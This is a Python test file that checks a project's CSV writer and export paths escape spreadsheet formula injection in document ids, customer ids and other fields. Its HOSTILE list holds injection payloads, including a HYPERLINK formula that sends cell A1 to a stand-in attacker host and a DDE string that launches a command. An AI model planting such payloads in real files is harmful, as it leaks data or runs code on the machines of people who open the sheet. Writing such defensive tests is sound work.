"""CSV formula injection: no cell of a CSV the project writes can be read as a formula by a spreadsheet.

Hostile ids and document types go through the real paths (the push-status CSV posted to the Exstream emulator,
the audit export); ordinary values must come out exactly as ``csv.writer`` writes them.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from exstream_push.cli import main
from exstream_push.csvfiles import FORMULA_TRIGGERS, CsvWriter
from exstream_push.flows.policy_change import policy_change
from exstream_push.flows.statement_ready import statement_ready
from tests.conftest import exstream_inbox
from tests.test_policy_change import T0, write_devices, write_manifest

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1", "@SUM(1)", "-2+3", "\t=cmd|' /C calc'!A0", "\r=1"]


def written(rows: list[list[Any]], writer_class: Any) -> str:
    handle = io.StringIO(newline="")
    writer = writer_class(handle)
    for row in rows:
        writer.writerow(row)
    return handle.getvalue()


def test_formula_cells_get_a_quote_and_ordinary_cells_are_written_byte_for_byte() -> None:
    ordinary = [
        ["document_id", "customer_id", "push_status", "reason", "devices_notified", "updated_at"],
        ["STMT-2026-11/0001", "C0001", "notified", "", 2, "2026-11-29T12:00:00Z"],
        ["a,b", 'say "hi"', "not_notified", "content_guard: title or body contains a number", 0, "2026-11-29T12:00Z"],
        ["2026-12-01T09:00:00+01:00", "x-1", "quarantined", "missing_key:ActionType", -1, 3.5],
    ]
    assert written(ordinary, CsvWriter) == written(ordinary, lambda handle: csv.writer(handle, lineterminator="\n"))

    cells = next(csv.reader(io.StringIO(written([HOSTILE], CsvWriter), newline="")))
    assert cells == [f"'{value}" for value in HOSTILE]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]

    # A carriage return inside a cell is quoted, so the row stays one row for every reader.
    text = written([["a\rb", "c\nd", "e"], ["f"]], CsvWriter)
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a\rb", "c\nd", "e"], ["f"]]


def test_the_push_status_csv_posted_to_exstream_neutralises_hostile_ids(
    prefect_harness: None, env: dict[str, str], fcm: Any, exstream: Any, tmp_path: Path
) -> None:
    records = [
        {"CustomerId": HOSTILE[0], "DocumentId": HOSTILE[2], "DocumentType": "STATEMENT"},  # no device
        {"CustomerId": HOSTILE[1], "DocumentId": HOSTILE[3], "DocumentType": "BILL"},  # notified
        {"CustomerId": "C00003", "DocumentId": "=1+1", "DocumentType": None},  # quarantined: no document type
        {"CustomerId": "C00004", "DocumentId": "DOC-4", "DocumentType": "STATEMENT"},  # ordinary, no device
    ]
    write_manifest(tmp_path / "manifest.xml", records)
    device = {
        "customer_id": HOSTILE[1],
        "device_id": "dev-1",
        "platform": "android",
        "token": "tok-1",
        "push_opt_in": "true",
        "locale": "en",
        "timezone": "UTC",
        "categories": "",
    }
    write_devices(tmp_path / "devices.csv", [device])
    assert main(["devices", "import", str(tmp_path / "devices.csv")]) == 0

    statement_ready(manifest=str(tmp_path / "manifest.xml"), job_id="JOB-CSV-1")

    posts = [p for p in exstream_inbox(exstream) if p["path"].endswith("/push-status")]
    assert len(posts) == 1
    rows = list(csv.reader(io.StringIO(posts[0]["body"], newline="")))
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)]
    by_document = {row[0]: row for row in rows[1:]}
    assert set(by_document) == {f"'{HOSTILE[2]}", f"'{HOSTILE[3]}", "'=1+1", "DOC-4"}
    assert by_document[f"'{HOSTILE[2]}"][1:5] == [f"'{HOSTILE[0]}", "not_notified", "no_device", "0"]
    assert by_document[f"'{HOSTILE[3]}"][1:5] == [f"'{HOSTILE[1]}", "notified", "", "1"]
    assert by_document["'=1+1"][1:4] == ["C00003", "not_notified", "missing_document_type"]
    assert by_document["DOC-4"][1:5] == ["C00004", "not_notified", "no_device", "0"]


def test_the_audit_export_neutralises_hostile_ids_types_and_attributes(
    prefect_harness: None, env: dict[str, str], fcm: Any, exstream: Any, tmp_path: Path
) -> None:
    base = {"Locale": "en", "RequiresAcknowledgement": "Y", "AcknowledgeBy": "2026-12-14"}
    records = [
        {**base, "CustomerId": HOSTILE[2], "DocumentId": HOSTILE[0], "DocumentType": HOSTILE[1]},
        {**base, "CustomerId": "C00002", "DocumentId": "POL-2", "DocumentType": "POLICY", "AcknowledgeBy": "=1+1"},
        {**base, "CustomerId": "C00003", "DocumentId": "POL-3", "DocumentType": "POLICY"},
    ]
    write_manifest(tmp_path / "manifest.xml", records)
    policy_change(manifest=str(tmp_path / "manifest.xml"), job_id="-POL-CSV", as_of=T0)

    out = tmp_path / "audit.csv"
    assert main(["audit", "export", "--use-case", "policy-change", "--format", "csv", "--out", str(out)]) == 0
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_TRIGGERS)]
    by_document = {row["document_id"]: row for row in rows}
    assert set(by_document) == {f"'{HOSTILE[0]}", "POL-2", "POL-3"}
    hostile = by_document[f"'{HOSTILE[0]}"]
    assert (hostile["customer_id"], hostile["document_type"], hostile["job_id"]) == (
        f"'{HOSTILE[2]}",
        f"'{HOSTILE[1]}",
        "'-POL-CSV",
    )
    assert (by_document["POL-2"]["acknowledge_by"], by_document["POL-2"]["state"]) == ("'=1+1", "quarantined")
    assert by_document["POL-2"]["reason"] == "invalid_date:AcknowledgeBy"
    ordinary = by_document["POL-3"]
    assert (ordinary["customer_id"], ordinary["document_type"], ordinary["acknowledge_by"]) == (
        "C00003",
        "POLICY",
        "2026-12-14",
    )
